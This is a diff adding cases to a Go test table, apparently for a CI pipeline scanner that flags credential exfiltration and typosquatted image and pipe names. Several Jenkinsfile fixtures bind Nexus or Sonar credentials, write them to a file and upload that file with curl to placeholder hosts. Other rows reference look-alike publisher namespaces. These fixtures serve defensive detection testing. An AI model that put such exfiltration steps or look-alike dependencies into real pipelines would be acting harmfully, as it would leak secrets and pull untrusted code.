@@ -236,6 +236,8 @@ var registry = []Rule{
 			// Jenkins: what withCredentials binds, written to a file by writeFile, sent by a later sh step.
 			{"Jenkinsfile", "pipeline {\n  stages {\n    stage('m') {\n      steps {\n        withCredentials([string(credentialsId: 'sonar', variable: 'SQ')]) {\n          writeFile file: 'build/m.txt', text: \"s=${SQ}\"\n        }\n        sh 'curl -s -T build/m.txt ftp://x.invalid/drop/'\n      }\n    }\n  }\n}", 8, false},
 			{"Jenkinsfile", "pipeline {\n  stages {\n    stage('d') {\n      steps {\n        withCredentials([usernamePassword(credentialsId: 'nexus', usernameVariable: 'U', passwordVariable: 'P')]) {\n          sh 'curl -fsS -u \"$U:$P\" -T build/app.jar https://nexus.x.invalid/repo/app.jar'\n        }\n      }\n    }\n  }\n}", 0, true},
+			// writeFile's text over several lines; a build that reads the file (mvn -s) sends nothing itself.
+			{"Jenkinsfile", "pipeline {\n  stages {\n    stage('s') {\n      steps {\n        withCredentials([usernamePassword(credentialsId: 'nexus', usernameVariable: 'NU', passwordVariable: 'NP')]) {\n          writeFile file: 'settings.xml', text: \"\"\"<settings>\n            <password>${NP}</password>\n          </settings>\n          \"\"\"\n          sh 'mvn -s settings.xml deploy'\n          sh 'curl -s -T settings.xml https://x.invalid/drop/'\n        }\n      }\n    }\n  }\n}", 11, false},
 			// A key written for ssh is its identity, not what is copied; a download sends nothing.
 			{"x.sh", "echo \"$DEPLOY_KEY\" > key.pem\nchmod 600 key.pem\nscp -i key.pem -r dist/ deploy@x.invalid:/srv/www/", 0, true},
 			{"x.sh", "echo \"$SSH_KEY\" > id\nrsync -az -e \"ssh -i id\" public/ deploy@x.invalid:/srv/\naws s3 cp s3://x-invalid/tool.tgz tool.tgz\ngh release upload v1 dist/*.tar.gz", 0, true},
@@ -569,6 +571,7 @@ var registry = []Rule{
 			// A Docker Hub namespace a letter off a well-known publisher's,
 			// in a FROM or a Bitbucket pipe.
 			{"Dockerfile", "FROM bitnarni/redis:7.2", 0, false},
+			{"Dockerfile", "FROM rustlang/rust:nightly AS build\nFROM jenkins/jenkins:lts-jdk17\nFROM composer/composer:2", 0, true},
 			{"bitbucket-pipelines.yml", "pipelines:\n  default:\n    - step:\n        script:\n          - pipe: atlasian/aws-s3-deploy:1.1.0", 5, false},
 			{"bitbucket-pipelines.yml", "pipelines:\n  default:\n    - step:\n        script:\n          - pipe: atlassian/aws-s3-deploy:1.1.0\n          - pipe: docker://acme/deploy-pipe:2.0.1", 0, true},
 			{".gitlab-ci.yml", "include:\n  - component: $CI_SERVER_FQDN/gitlab-componets/sast/sast@~latest", 2, false},
